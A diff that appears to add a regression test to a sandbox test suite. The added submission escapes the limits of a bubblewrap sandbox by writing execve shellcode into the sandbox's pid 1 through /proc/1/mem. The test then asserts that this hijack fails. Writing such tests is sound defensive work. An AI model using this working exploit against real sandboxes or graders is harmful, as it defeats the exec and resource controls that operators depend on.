@@ -412,3 +412,54 @@ def test_the_thread_cap_holds_even_when_the_grader_is_root():
     run = attack(code, "bwrap", calls=[(300,)])
     started = run.outcomes[0].value if run.outcomes[0].ok else 0
     assert started < sandbox.NPROC_IN_SANDBOX, f"{started} threads started in one sandbox"
+
+
+# --- 12. bubblewrap's own pid 1 runs anything, with none of the runner's limits -------------
+# Claims: "New processes ... and exec are refused by seccomp" and "Its resources are capped:
+# address space ..., CPU time ..., 512 open files". Only the runner (pid 2) loads the exec
+# filter and the rlimits; bubblewrap's init (pid 1 in the sandbox) has the base filter only and
+# the grader's limits, and the runner may open /proc/1/mem for writing (same user, no caps on
+# either side, no Yama here). The submission writes an execve() stub over the code pid 1
+# returns to from wait4, and exits: pid 1 exec()s a fresh Python that inherits the protocol
+# pipes and answers the call itself, with RLIMIT_AS and RLIMIT_CPU unlimited.
+PID1_EXEC = DISARM + r'''
+import os, struct, sys
+
+PAYLOAD = """
+import json, os, resource
+limits = [[name, resource.getrlimit(getattr(resource, name))[0]]
+          for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NOFILE")]
+value = {"$dict": [["pid", os.getpid()], ["limits", {"$dict": limits}]]}
+os.write(1, (json.dumps({"n": 2, "ok": True, "value": value}) + "\\n").encode())
+"""
+
+def f(x):
+    pc = int(open("/proc/1/syscall").read().split()[-1], 16)  # where pid 1's wait4 returns
+    strings = [sys.executable.encode() + b"\0", b"-c\0", PAYLOAD.encode() + b"\0"]
+    code_length = 32
+    offsets, blob = [], b""
+    for text in strings:
+        offsets.append(code_length + len(blob))
+        blob += text
+    argv_at = code_length + len(blob) + (-(code_length + len(blob))) % 8
+    blob = blob.ljust(argv_at - code_length, b"\0")
+    argv = b"".join(struct.pack("<Q", pc + o) for o in offsets) + struct.pack("<Q", 0)
+    code = (b"\x48\x8d\x3d" + struct.pack("<i", offsets[0] - 7)   # lea rdi, [rip+path]
+            + b"\x48\x8d\x35" + struct.pack("<i", argv_at - 14)   # lea rsi, [rip+argv]
+            + b"\x31\xd2\xb8\x3b\x00\x00\x00\x0f\x05"              # envp = 0; execve
+            + b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05")             # exit(0) if it failed
+    memory = os.open("/proc/1/mem", os.O_RDWR)
+    os.pwrite(memory, code + blob + argv, pc)
+    os.close(memory)
+    os._exit(0)
+'''
+
+
+def test_the_sandboxes_pid_1_cannot_be_made_to_exec_without_limits():
+    require_bwrap()
+    if os.uname().machine != "x86_64":
+        pytest.skip(f"the exploit is x86-64 machine code; this is {os.uname().machine}: NOT run")
+    run = attack(PID1_EXEC, "bwrap")
+    outcome = run.outcomes[0]
+    hijacked = outcome.ok and isinstance(outcome.value, dict) and "limits" in outcome.value
+    assert not hijacked, f"pid 1 exec'd and answered: {outcome.value}"
